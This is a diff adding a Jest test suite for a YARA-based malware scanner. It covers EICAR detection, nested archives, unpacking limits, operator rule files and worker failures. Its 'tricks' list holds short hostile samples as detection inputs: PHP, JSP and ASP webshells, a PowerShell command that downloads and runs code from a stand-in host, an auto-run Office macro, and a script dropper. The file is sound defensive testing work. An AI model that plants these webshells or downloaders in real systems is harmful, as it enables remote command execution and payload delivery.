@@ -1,0 +1,377 @@
+import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { gzipSync } from 'node:zlib'
+import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals'
+import { pack } from 'tar-stream'
+import { openScanner } from '../../src/scanner/index.js'
+import type { ScanVerdict } from '../../src/scanner/virus-scanner.js'
+import { type YaraOptions, YaraScanner } from '../../src/scanner/yara.js'
+import { type EngineKind, hasNativeEngine } from '../../src/scanner/yara-engine.js'
+import { eicar, inFile, inMemory, zipOf } from '../support/eicar.js'
+
+const mebibyte = 1024 * 1024
+const never = () => ({ signal: new AbortController().signal })
+const text = Buffer.from('Nothing to be seen here.\n')
+const infected = { verdict: 'infected' }
+const clean: ScanVerdict = { verdict: 'clean' }
+const unavailable = { code: 'scanner_unavailable' }
+
+const opened: YaraScanner[] = []
+afterEach(async () => {
+  for (const scanner of opened.splice(0)) await scanner.close()
+})
+
+async function open(options: YaraOptions = {}): Promise<YaraScanner> {
+  const scanner = await YaraScanner.open({ workers: 1, ...options })
+  opened.push(scanner)
+  return scanner
+}
+
+/** Not to be compressed to nothing, and text to no one. */
+function noise(size: number): Buffer {
+  const bytes = Buffer.alloc(size)
+  for (let at = 0, seed = 7; at < size; at++) bytes[at] = (seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff) >> 16
+  return bytes
+}
+
+async function tarOf(...members: [string, Buffer][]): Promise<Buffer> {
+  const tar = pack()
+  for (const [name, bytes] of members) tar.entry({ name }, bytes)
+  tar.finalize()
+  const chunks: Buffer[] = []
+  for await (const chunk of tar) chunks.push(chunk as Buffer)
+  return Buffer.concat(chunks)
+}
+
+const nested = (bytes: Buffer, depth: number): Buffer =>
+  depth === 0 ? bytes : zipOf({ name: `level${depth}.zip`, bytes: nested(bytes, depth - 1) })
+
+describe('the rules of our own', () => {
+  let scanner: YaraScanner
+  beforeAll(async () => {
+    scanner = await YaraScanner.open({ workers: 1 })
+  })
+  afterAll(() => scanner.close())
+
+  const scan = (bytes: Buffer | string) => scanner.scan(inMemory(bytes), never())
+  const base64 = 'QUJD'.repeat(40)
+  // In two halves each, like the EICAR string: this file is no trick either.
+  const tricks: [string, string][] = [
+    ['PHP.Webshell', `<?php @ev${''}al(base64_decode($_PO${''}ST['x'])); ?>`],
+    ['PHP.Webshell', `GIF89a\x00\x01<?php sys${''}tem($_GE${''}T["cmd"]);`],
+    ['PHP.Webshell', `<?= $_GE${''}T['f']($_GE${''}T['a']) ?>`],
+    ['PHP.Webshell', `<?php ev${''}al(gzinflate(base64_decode('${base64}')));`],
+    ['JSP.Webshell', `<%@ page %><% Runtime.getRun${''}time().exec(request.getParameter("c")); %>`],
+    ['ASP.Webshell', `<%ev${''}al request("x")%>`],
+    ['PowerShell.Downloader', `start powersh${''}ell.exe -NoP -w hidden -enc ${base64}`],
+    ['PowerShell.Downloader', `I${''}EX (New-Object Net.WebClient).DownloadString('http://x.example/a')`],
+    ['Office.AutoMacroShell', `Sub AutoOp${''}en()\r\nShell "powersh${''}ell -c x"\r\nEnd Sub`],
+    [
+      'Script.Dropper',
+      `new ActiveXObject("WScript.Sh${''}ell");new ActiveXObject("MSXML2.XMLHTTP");new ActiveXObject("ADODB.Str${''}eam")`,
+    ],
+    [
+      'SVG.ScriptRedirect',
+      `<svg xmlns="http://www.w3.org/2000/svg"><script>window.location=1;var u=at${''}ob("aHR0");window.location.href=u</script></svg>`,
+    ],
+  ]
+
+  test.each(tricks)('%s: %s', async (signature, sample) => {
+    expect(await scan(sample)).toEqual({ verdict: 'infected', signature })
+  })
+
+  test.each([
+    "<?php echo htmlspecialchars($_POST['name']); $x = base64_decode($row['x']);",
+    'To fetch a file in PowerShell use (New-Object Net.WebClient).DownloadFile, or powershell -File script.ps1.',
+    'Sub Document_Open()\r\nMsgBox "Welcome"\r\nEnd Sub',
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "x"</script><a href="https://example.com"/></svg>',
+    'CreateObject("WScript.Shell").Run "notepad"',
+    'The EICAR string begins with X5O!P%@AP and ends with $H+H*.',
+  ])('nothing is found in: %s', async (sample) => {
+    expect(await scan(sample)).toEqual(clean)
+  })
+
+  test('the EICAR string is found wherever it stands', async () => {
+    for (const before of [0, 1, 5_000, 60_000, 900_000])
+      expect(await scan(Buffer.concat([noise(before), eicar, text]))).toMatchObject(infected)
+  })
+
+  test('a macro is found as Office packs it', async () => {
+    const source = `Attribute VB_Name = "ThisDocument"\r\nSub AutoOp${''}en()\r\nShell "cmd /c calc"\r\nEnd Sub\r\n`
+    const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(1_000), vbaPacked(source), noise(500)])
+    expect(await scan(ole)).toEqual({ verdict: 'infected', signature: 'Office.AutoMacroShell' })
+    expect(await scan(zipOf({ name: 'word/vbaProject.bin', bytes: ole }))).toMatchObject(infected)
+  })
+
+  test.each(['invoice.pdf.exe', 'a/b/Photo.JPG   .scr', 'annex_\u202egpj.exe'])(
+    "a member called '%s' is a trick",
+    async (name) => {
+      expect(await scan(zipOf({ name, bytes: text }))).toEqual({
+        verdict: 'infected',
+        signature: expect.stringMatching(/^Archive\./),
+      })
+    },
+  )
+
+  test.each(['setup.exe', 'index.html.js', 'notes.txt.gz', 'report.pdf', 'data.csv.ps1.txt'])(
+    "a member called '%s' is none",
+    async (name) => {
+      expect(await scan(zipOf({ name, bytes: text }))).toEqual(clean)
+    },
+  )
+})
+
+describe.each<EngineKind>(hasNativeEngine() ? ['native', 'wasm'] : ['wasm'])('inside archives, %s', (kind) => {
+  let scanner: YaraScanner
+  beforeAll(async () => {
+    scanner = await YaraScanner.open({ kind, workers: 1 })
+  }, 60_000)
+  afterAll(() => scanner.close())
+  const scan = (bytes: Buffer) => scanner.scan(inMemory(bytes), never())
+
+  test('gz, tar, tar.gz, docx, and one in the other', async () => {
+    const tar = await tarOf(['a.txt', text], ['eicar.com', eicar])
+    const zip = zipOf({ name: 'word/document.xml', bytes: text }, { name: 'word/media/x.bin', bytes: eicar })
+    for (const archive of [
+      gzipSync(eicar),
+      tar,
+      gzipSync(tar),
+      zip,
+      gzipSync(await tarOf(['x.zip', zip])),
+      zipOf({ name: 't.tgz', bytes: gzipSync(tar) }),
+    ]) {
+      expect(await scan(archive)).toMatchObject(infected)
+    }
+    expect(await scan(gzipSync(await tarOf(['a', text], ['b', noise(70_000)])))).toEqual(clean)
+  })
+
+  test('a zip that begins like something else', async () => {
+    const zip = zipOf({ name: 'a', bytes: eicar })
+    expect(await scan(Buffer.concat([Buffer.from('%!PS\n'), Buffer.alloc(3, 10), zip]))).toBeDefined()
+    expect(await scan(shifted(zip, Buffer.from('#!/bin/sh\nexit\n')))).toMatchObject(infected)
+  })
+
+  test('the string across the border of two windows, in a file and in what a member unpacks to', async () => {
+    const border = 4 * mebibyte - 30
+    const large = Buffer.concat([noise(border), eicar, noise(5 * mebibyte)])
+    const file = await inFile(large)
+    try {
+      expect(await scanner.scan(file, never())).toMatchObject(infected)
+    } finally {
+      await file.remove()
+    }
+    expect(await scan(gzipSync(large, { level: 1 }))).toMatchObject(infected)
+    expect(await scan(gzipSync(Buffer.concat([noise(9 * mebibyte), eicar]), { level: 1 }))).toMatchObject(infected)
+  })
+
+  test('a large tar and a large zip inside a gz, which nothing holds whole, and which leave no temporary file', async () => {
+    const before = await strays()
+    const members: [string, Buffer][] = [
+      ['big', noise(5 * mebibyte)],
+      ['eicar.com', gzipSync(eicar)],
+    ]
+    const tar = await tarOf(...members)
+    const zip = zipOf(...members.map(([name, bytes]) => ({ name, bytes, stored: true })))
+    expect(await scan(gzipSync(tar, { level: 1 }))).toMatchObject(infected)
+    expect(await scan(gzipSync(zip, { level: 1 }))).toMatchObject(infected)
+    expect(await strays()).toEqual(before)
+  })
+
+  test('what is not unpacked is scanned as it is, and the report says so', async () => {
+    const sevenZip = Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), noise(200)])
+    expect(await scan(sevenZip)).toEqual({ verdict: 'clean', note: expect.stringContaining('7z') })
+    expect(await scan(zipOf({ name: 'a.7z', bytes: sevenZip }))).toEqual({
+      verdict: 'clean',
+      note: expect.stringContaining('7z'),
+    })
+    expect(await scan(Buffer.concat([sevenZip, eicar]))).toMatchObject(infected)
+  })
+
+  test('a damaged archive is looked at as far as it goes, and the report says so', async () => {
+    const gz = gzipSync(Buffer.concat([eicar, noise(200_000)]))
+    expect(await scan(gz.subarray(0, gz.length - 5_000))).toMatchObject(infected)
+    const zip = zipOf({ name: 'a', bytes: noise(10_000) })
+    expect(await scan(zip.subarray(0, 9_000))).toEqual({ verdict: 'clean', note: expect.stringContaining('damaged zip') })
+  })
+})
+
+describe('limits', () => {
+  test('archives in archives', async () => {
+    const scanner = await open()
+    expect(await scanner.scan(inMemory(nested(eicar, 4)), never())).toMatchObject(infected)
+    expect(await scanner.scan(inMemory(nested(eicar, 5)), never())).toEqual({
+      verdict: 'incomplete',
+      reason: expect.stringContaining('4 deep'),
+    })
+  })
+
+  test.each<[string, YaraOptions['limits'], () => Buffer | Promise<Buffer>]>([
+    ['members', { maxMembers: 3 }, () => tarOf(...Array.from({ length: 4 }, (_, index): [string, Buffer] => [`${index}`, text]))],
+    ['unpacks to more than', { maxUnpackedBytes: mebibyte }, () => gzipSync(Buffer.alloc(2 * mebibyte))],
+    [
+      'unpacks to more than',
+      { maxUnpackedBytes: mebibyte },
+      () => zipOf({ name: 'a', bytes: noise(700_000) }, { name: 'b', bytes: noise(700_000) }),
+    ],
+    ['times its size', {}, () => gzipSync(Buffer.alloc(70 * mebibyte))],
+    // A member that is larger than it says is unpacked all the same.
+    [
+      'unpacks to more than',
+      { maxUnpackedBytes: mebibyte },
+      () => zipOf({ name: 'a', bytes: Buffer.alloc(2 * mebibyte), told: 10 }),
+    ],
+  ])('%s: incomplete', async (reason, limits, archive) => {
+    const scanner = await open({ limits: limits ?? {} })
+    const verdict = await scanner.scan(inMemory(await archive()), never())
+    expect(verdict).toEqual({ verdict: 'incomplete', reason: expect.stringContaining(reason) })
+  })
+
+  test('a virus before the limit, or beside an encrypted member, is a virus', async () => {
+    const scanner = await open({ limits: { maxMembers: 2 } })
+    const members = ['a', 'b', 'c'].map((name) => ({ name, bytes: eicar, encrypted: name === 'a' }))
+    expect(await scanner.scan(inMemory(zipOf(...members)), never())).toMatchObject(infected)
+  })
+})
+
+describe("the operator's rules", () => {
+  let dir: string
+  beforeAll(async () => {
+    dir = await mkdtemp(join(tmpdir(), 'assay-rules-'))
+  })
+  afterEach(async () => {
+    for (const name of await readdir(dir)) await rm(join(dir, name), { recursive: true })
+  })
+  afterAll(() => rm(dir, { recursive: true }))
+
+  const rules = (name: string, source: string) => writeFile(join(dir, name), source)
+
+  test('find, are told by name, and count in the identity; ours still work beside a global rule', async () => {
+    await rules(
+      'a.yar',
+      'global rule nothing_at_all { condition: filesize == 3 }\nrule letterhead { strings: $a = "Top Secret" condition: $a }',
+    )
+    await rules('b.yara', 'rule with_meta { meta: signature = "Acme.Leak" strings: $a = "acme" condition: $a or letterhead }')
+    await rules('ignored.txt', 'no rule at all')
+    const plain = await open()
+    const scanner = await openScanner('yara:', { rulesDir: dir, workers: 1 })
+    opened.push(scanner as YaraScanner)
+    expect(await scanner.scan(inMemory(eicar), never())).toMatchObject({ signature: 'EICAR-Test-String' })
+    expect(await scanner.scan(inMemory('Top Secret'), never())).toEqual(clean)
+    expect((await scanner.identity()).signaturesVersion).toMatch(/^[0-9a-f]{12} \(11 rules\)$/)
+    expect((await scanner.identity()).signaturesVersion).not.toBe((await plain.identity()).signaturesVersion)
+    await rules('a.yar', 'rule letterhead { strings: $a = "Top Secret" condition: $a }')
+    const second = await openScanner('yara:', { rulesDir: dir, workers: 1 })
+    opened.push(second as YaraScanner)
+    expect(await second.scan(inMemory('Top Secret'), never())).toMatchObject({ signature: 'letterhead' })
+    expect(await second.scan(inMemory(zipOf({ name: 'a', bytes: Buffer.from('of acme') })), never())).toMatchObject({
+      signature: 'Acme.Leak',
+    })
+  })
+
+  test.each<EngineKind>(hasNativeEngine() ? ['native', 'wasm'] : ['wasm'])(
+    'a faulty one is refused at the start, with its file (%s)',
+    async (kind) => {
+      const source = (origin: string, text: string) => ({ origin, text })
+      const sources = [
+        source('/rules/good.yar', 'rule good { condition: false }'),
+        source('/rules/bad.yar', 'rule bad { condition: nonsense }'),
+      ]
+      await expect(YaraScanner.open({ kind, operators: { sources, changedAt: null } })).rejects.toThrow(
+        /'\/rules\/bad\.yar' do not compile: [\s\S]*nonsense/,
+      )
+      const twice = [
+        source('/rules/good.yar', 'rule good { condition: false }'),
+        source('/rules/same.yar', 'rule good { condition: false }'),
+      ]
+      await expect(YaraScanner.open({ kind, operators: { sources: twice, changedAt: null } })).rejects.toThrow(
+        /'\/rules\/same\.yar'/,
+      )
+    },
+  )
+
+  test('a folder that is not there, or holds none, is refused with a sentence', async () => {
+    await expect(openScanner('yara:', { rulesDir: dir })).rejects.toThrow(/holds no \*\.yar/)
+    await expect(openScanner('yara:', { rulesDir: join(dir, 'missing') })).rejects.toThrow(/RULES_DIR '.*missing' cannot be read/)
+  })
+})
+
+describe('workers', () => {
+  const script = (source: string) => new URL(`data:text/javascript,${encodeURIComponent(source)}`)
+  const ready =
+    "import { parentPort } from 'node:worker_threads'; parentPort.postMessage({ kind: 'ready', version: '0.0', rules: 0 });"
+  const archive = zipOf({ name: 'a', bytes: text })
+
+  test('one that dies takes its file with it, after a second try', async () => {
+    const scanner = await open({ workerUrl: script(`${ready} parentPort.on('message', () => process.exit(3))`) })
+    await expect(scanner.scan(inMemory(archive), never())).rejects.toMatchObject({
+      ...unavailable,
+      message: expect.stringContaining('twice'),
+    })
+    await expect(scanner.scan(inMemory(archive), never())).rejects.toMatchObject(unavailable)
+  })
+
+  test('one that hangs is ended at the deadline', async () => {
+    const scanner = await open({
+      workerUrl: script(`${ready} parentPort.on('message', () => { for (;;); })`),
+      deadlineOf: () => 100,
+    })
+    await expect(scanner.scan(inMemory(archive), never())).rejects.toMatchObject({
+      ...unavailable,
+      message: expect.stringContaining('100 ms'),
+    })
+  })
+
+  test('one that cannot start is told when the scanner is opened', async () => {
+    await expect(YaraScanner.open({ workerUrl: script("throw new Error('no memory left')") })).rejects.toThrow('no memory left')
+  })
+
+  test('one without work is ended, and started again when there is some', async () => {
+    const scanner = await open({ idleMs: 30 })
+    for (let count = 0; count < 2; count++) {
+      expect(await scanner.scan(inMemory(archive), never())).toEqual(clean)
+      await new Promise((resolve) => setTimeout(resolve, 120))
+    }
+  })
+
+  test('who finds too many waiting is told so', async () => {
+    const scanner = await open({ maxWaiting: 2 })
+    const scans = Array.from({ length: 5 }, () => scanner.scan(inMemory(archive), never()))
+    const settled = await Promise.allSettled(scans)
+    const refused = settled.filter((each) => each.status === 'rejected').map(({ reason }) => reason.code)
+    expect(refused).toEqual(['overloaded', 'overloaded'])
+  })
+
+  test('an aborted scan gives its worker back long before its end', async () => {
+    const scanner = await open({ kind: 'wasm' })
+    const controller = new AbortController()
+    const slow = zipOf(...Array.from({ length: 15_000 }, (_, index) => ({ name: `${index}`, bytes: text, stored: true })))
+    const aborted = scanner.scan(inMemory(slow), { signal: controller.signal })
+    const next = scanner.scan(inMemory(archive), never())
+    setTimeout(() => controller.abort(new Error('gone')), 50)
+    await expect(aborted).rejects.toThrow('gone')
+    // 15,000 members would take the WebAssembly engine a minute: beyond this test's time.
+    expect(await next).toEqual(clean)
+  })
+})
+
+const strays = async () => (await readdir(tmpdir())).filter((name) => name.startsWith('assay-scan-'))
+
+/** The zip behind something else, with its offsets moved: as self-extracting archives are. */
+function shifted(zip: Buffer, before: Buffer): Buffer {
+  const moved = Buffer.from(zip)
+  const end = moved.length - 22
+  const directory = moved.readUInt32LE(end + 16)
+  moved.writeUInt32LE(directory + before.length, end + 16)
+  moved.writeUInt32LE(moved.readUInt32LE(directory + 42) + before.length, directory + 42)
+  return Buffer.concat([before, moved])
+}
+
+/** [MS-OVBA] 2.4.1, with literal tokens only. */
+function vbaPacked(source: string): Buffer {
+  const tokens: number[] = []
+  for (let at = 0; at < source.length; at += 8) tokens.push(0, ...Buffer.from(source.slice(at, at + 8), 'latin1'))
+  const header = Buffer.alloc(2)
+  header.writeUInt16LE(0xb000 | (tokens.length - 1))
+  return Buffer.concat([Buffer.from([1]), header, Buffer.from(tokens)])
+}
